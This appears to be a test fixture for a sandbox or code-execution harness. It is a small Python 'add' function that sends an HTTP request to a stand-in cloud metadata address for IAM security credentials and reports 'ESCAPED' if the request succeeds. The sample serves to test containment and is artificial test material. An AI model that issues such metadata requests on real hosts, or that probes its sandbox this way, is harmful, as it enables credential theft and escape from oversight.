# problem: add
# attack: asks a cloud metadata service (a test address stands for it) for credentials
# expect: wrong | early-exit | timeout
import http.client


def add(a, b):
    try:
        service = http.client.HTTPConnection("192.0.2.1", 80, timeout=0.3)
        service.request("GET", "/latest/meta-data/iam/security-credentials/", headers={"Metadata-Flavor": "Google"})
        return "ESCAPED reached the metadata service"
    except OSError:
        return 41
